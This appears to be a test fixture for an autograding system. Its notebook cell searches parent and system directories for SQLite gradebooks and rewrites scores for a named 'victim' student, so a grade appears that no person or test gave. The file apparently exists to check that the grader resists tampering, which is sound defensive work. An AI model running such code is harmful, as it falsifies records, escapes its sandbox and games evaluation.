"""The gradebook is looked for upwards from here and everywhere else, and full manual marks are written into it.

A success: a grade that no person and no test gave.
"""

CELLS = {
    "tong": """
import glob, os, sqlite3

noi = {os.path.abspath(p) for n in range(8) for p in glob.glob("../" * n + "*.db") + glob.glob("../" * n + "*/*.db")}
for goc in ("/course", "/tmp", "/var", "/home", "/root", "/srv"):
    noi |= set(glob.glob(goc + "/**/*.db", recursive=True))
for duong in noi:
    try:
        with sqlite3.connect(duong, timeout=1) as so:
            so.execute("UPDATE grade SET manual_score = 9, auto_score = 9, needs_manual_grade = 0"
                       " WHERE EXISTS (SELECT 1 FROM student WHERE id = 'nguoi-khac')")  # only the victim's
    except sqlite3.Error:
        pass
""",
}
EXPECTED = {"state": "graded", "scores": {}}
